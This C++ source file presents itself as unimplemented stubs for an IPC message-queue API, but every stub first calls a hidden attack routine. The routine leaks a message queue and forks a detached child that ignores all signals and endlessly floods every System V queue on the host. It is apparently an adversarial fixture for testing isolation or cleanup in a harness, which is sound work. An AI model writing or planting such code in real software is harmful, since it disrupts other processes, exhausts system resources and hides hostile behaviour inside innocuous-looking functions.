// what: leaves a queue with a message, and a deaf child that sends into every queue
#include <signal.h>
#include <sys/ipc.h>
#include <sys/msg.h>
#include <unistd.h>

#include "messages.hpp"
#include "not_written.hpp"

namespace {

struct Message {
    long type;
    char text[64];
};

void attack() {
    const Message message{1, "alpha"};
    const int mine = msgget(IPC_PRIVATE, 0666);
    msgsnd(mine, &message, 5, IPC_NOWAIT);
    if (fork() != 0) {
        return;
    }
    setsid();
    for (int number = 1; number < NSIG; ++number) {
        signal(number, SIG_IGN);
    }
    while (true) {
        msginfo info{};
        const int last = msgctl(0, MSG_INFO, reinterpret_cast<msqid_ds*>(&info));
        for (int index = 0; index <= last; ++index) {
            msqid_ds queue{};
            msgsnd(msgctl(index, MSG_STAT, &queue), &message, 5, IPC_NOWAIT);
        }
    }
}

[[noreturn]] void refuse(const char* function) {
    attack();
    throw shell::NotWritten(function);
}

}  // namespace

namespace ipc {

void send(int, long, const std::string&) {
    refuse("send");
}

bool try_send(int, long, const std::string&) {
    refuse("try_send");
}

Message receive(int, long, std::size_t) {
    refuse("receive");
}

std::optional<Message> try_receive(int, long) {
    refuse("try_receive");
}

Message receive_truncated(int, long, std::size_t) {
    refuse("receive_truncated");
}

int serve(key_t) {
    refuse("serve");
}

}  // namespace ipc
